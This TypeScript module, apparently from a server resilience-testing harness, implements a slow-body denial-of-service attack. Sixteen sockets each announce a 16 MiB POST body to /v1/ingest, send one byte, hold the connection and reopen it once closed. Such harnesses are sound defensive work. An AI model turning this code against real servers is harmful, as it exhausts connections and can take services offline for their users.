import { once } from 'node:events';
import type { Attack, Attacker } from '../attacker.ts';

const SOCKETS = 16;
const ANNOUNCED = 16_777_216;
const EVERY_MS = 16_000;

/** Sixteen sockets that announce 16 MiB and send one byte, each opened again when it has been closed. */
export const announcedBodies: Attack = {
  name: 'announced bodies',
  async run(attacker) {
    await Promise.all(Array.from({ length: SOCKETS }, () => hold(attacker)));
  },
};

async function hold(attacker: Attacker): Promise<void> {
  const headers = { 'Content-Type': 'application/json', 'Content-Length': `${ANNOUNCED}` };
  while (!attacker.isOver) {
    const socket = attacker.open();
    socket.resume();
    socket.write(`${attacker.head({ method: 'POST', path: '/v1/ingest', headers })}{`);
    const closed = once(socket, 'close').then(() => attacker.count('closed'));
    await attacker.pause(EVERY_MS);
    await Promise.race([closed, attacker.pause(attacker.options.seconds * 1_000)]);
    socket.destroy();
  }
}
